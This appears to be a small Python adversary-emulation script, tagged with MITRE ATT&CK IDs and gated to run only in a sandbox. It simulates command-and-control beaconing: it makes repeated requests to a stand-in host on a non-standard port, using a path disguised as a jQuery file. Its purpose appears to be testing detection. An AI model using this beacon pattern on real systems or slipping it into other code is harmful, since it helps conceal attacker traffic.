# technique: T1071.001 T1571 T1573
# needs: python3
# net: sink
import os as _os
if _os.environ.get("USER") != "sandbox": raise SystemExit("only for the inside of a sandbox: shieldx run")

import time, urllib.request
for n in range(12):
    try: urllib.request.urlopen("http://203.0.113.7:8443/jquery-3.3.1.min.js", timeout=2).read()
    except OSError: pass
    time.sleep(0.5)
